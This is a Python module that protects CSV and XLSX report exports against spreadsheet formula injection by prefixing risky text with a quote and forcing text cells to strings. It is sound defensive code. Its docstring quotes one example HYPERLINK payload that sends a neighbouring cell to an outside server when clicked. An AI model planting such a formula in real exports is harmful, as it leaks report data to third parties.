"""Cells for every CSV and XLSX export: the one place that keeps data from becoming a spreadsheet formula.

A name a user typed (a group, a partner, a network) that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return is read by Excel and LibreOffice as a formula: ``=HYPERLINK("http://…"&B2,"Kliknij")`` in a report sends the
next cell to someone else's server when clicked (CSV/formula injection, OWASP). Such text is prefixed with a single
quote, as OWASP recommends, in CSV and XLSX alike; in XLSX every text cell is also written as a string, so that no
cell of data is ever a formula. Numbers stay numbers (a negative count is a number, not text that needs a quote).

Used by reporting/exports.py (the yearly and regional reports) and frontend/employment_views.py (the employer's
candidates CSV); any new export goes through ``csv_cell`` / ``xlsx_append``.
"""

from __future__ import annotations

import datetime
import decimal
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
NUMBERS = (int, float, decimal.Decimal)


def neutralise(text: str) -> str:
    """The text, made inert when a spreadsheet would start a formula with it."""
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def is_number(value: Any) -> bool:
    return isinstance(value, NUMBERS) and not isinstance(value, bool)


def csv_cell(value: Any, shown: str | None = None) -> str:
    """A CSV cell. ``shown`` is how the value is written (a number formatted for Polish readers, "—" for none);
    a number is written as it is shown, anything else is neutralised."""
    if shown is None:
        shown = "" if value is None else str(value)
    return shown if is_number(value) else neutralise(shown)


def csv_row(values: Iterable[Any]) -> list[str]:
    return [csv_cell(value) for value in values]


def xlsx_cell(value: Any) -> Any:
    """A value for an XLSX cell: numbers, dates and blanks as they are, anything else as neutralised text."""
    if value is None or is_number(value) or isinstance(value, datetime.date | datetime.time):
        return value
    return neutralise(str(value))


def xlsx_append(sheet: Any, values: Iterable[Any]) -> None:
    """Append a row to an openpyxl sheet; every text cell is a string cell, never a formula or an error value
    (openpyxl makes a formula of any text starting with "=" and an error of "#N/A")."""
    sheet.append([xlsx_cell(value) for value in values])
    for cell in sheet[sheet.max_row]:
        if isinstance(cell.value, str):
            cell.data_type = "s"
